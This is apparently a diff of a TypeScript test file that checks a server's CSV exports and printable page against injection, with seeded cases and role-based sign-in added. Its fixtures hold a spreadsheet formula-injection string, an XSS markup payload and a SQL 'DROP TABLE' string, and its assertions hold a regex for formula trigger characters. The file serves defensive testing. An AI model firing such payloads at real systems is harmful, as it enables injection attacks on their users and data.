@@ -5,14 +5,17 @@ import { expect, test } from 'vitest';
 import { createApp } from '#server/app.ts';
 import type { ServerContext } from '#server/context.ts';
 import { OPERATIONS } from '#server/openapi/operations.ts';
+import { insertCases } from '#server/store/cases.ts';
+import { isGranted, ROLES } from '#shared/domain/roles.ts';
 import { type Procedure, procedure } from '#shared/protocol/procedure.ts';
 import { THOROUGH_PROCEDURE } from '../support/edge-procedures.ts';
-import { seedDevice, seedOffice, seedRating, seedReplica } from '../support/office.ts';
+import { ratingId, seedDevice, seedOffice, seedRating, seedReplica } from '../support/office.ts';
 import { postProcedures } from '../support/posted-procedures.ts';
 import { signInAs } from '../support/role-office.ts';
 import { createTestContext } from '../support/server-context.ts';
 
 const UNIT = 'phuong';
+const AT = '2026-11-22T01:00:00.000Z';
 const FORMULA = `=HYPERLINK("http://example.test?"&A1;"x")|cmd`;
 const MARKUP = `"'><script>window.taken=1</script><img src=x onerror=window.taken=1><a href="javascript:window.taken=1">`;
 const QUERY = `'; DROP TABLE rating; --`;
@@ -33,6 +36,13 @@ async function start(words: string): Promise<ServerContext> {
     receivedThrough: 1,
   });
   await seedRating(context, { n: 1, replicaNo, clerk: 'hoa' });
+  await insertCases(
+    db,
+    (['petition', 'integrity'] as const).map((kind, n) => ({
+      ...{ id: ratingId(100 + n), unit_id: UNIT, origin_unit_id: UNIT, kind, status: 'new', version: 1 },
+      ...{ box: 'none', has_contact: 0, sample: 0, occurred_at: AT, received_at: AT, changed_at: AT },
+    })),
+  );
   await postProcedures(db, UNIT, [withWords(words)]);
   return context;
 }
@@ -54,18 +64,22 @@ const TABLES = OPERATIONS.filter(
     method === 'get' && !path.includes(':') && success.bodies?.some(({ type }) => type === 'text/csv'),
 );
 
-test.each(TABLES.map(({ path }) => path))('no cell of %s is computed by a spreadsheet', async (path) => {
-  const context = await start(FORMULA);
-  const admin = await signInAs(context, 'admin', UNIT);
-  const answer = await admin.get(`${path}?format=csv&unit=${UNIT}`);
-  expect(answer.status).toBe(200);
-  expect(answer.headers.get('Content-Type')).toContain('text/csv');
-  const rows: string[][] = parse(await answer.text(), { bom: true });
-  const cells = rows.flat();
-  // It is there, and only behind the mark that makes it text.
-  expect(cells.some((cell) => cell.includes('HYPERLINK'))).toBe(true);
-  expect(cells.filter((cell) => /^[=+@\t\r]|^-(?!\d)/.test(cell))).toEqual([]);
-});
+test.each(TABLES.map(({ path, permission }) => [path, permission] as const))(
+  'no cell of %s is computed by a spreadsheet',
+  async (path, permission) => {
+    const context = await start(FORMULA);
+    const role = ROLES.find((one) => permission !== undefined && isGranted(one, permission)) ?? 'admin';
+    const reader = await signInAs(context, role, UNIT);
+    const answer = await reader.get(`${path}?format=csv&unit=${UNIT}`);
+    expect(answer.status).toBe(200);
+    expect(answer.headers.get('Content-Type')).toContain('text/csv');
+    const rows: string[][] = parse(await answer.text(), { bom: true });
+    const cells = rows.flat();
+    // It is there, and only behind the mark that makes it text.
+    expect(cells.some((cell) => cell.includes('HYPERLINK'))).toBe(true);
+    expect(cells.filter((cell) => /^[=+@\t\r]|^-(?!\d)/.test(cell))).toEqual([]);
+  },
+);
 
 test('the page that people take along shows markup as words', async () => {
   const context = await start(MARKUP);
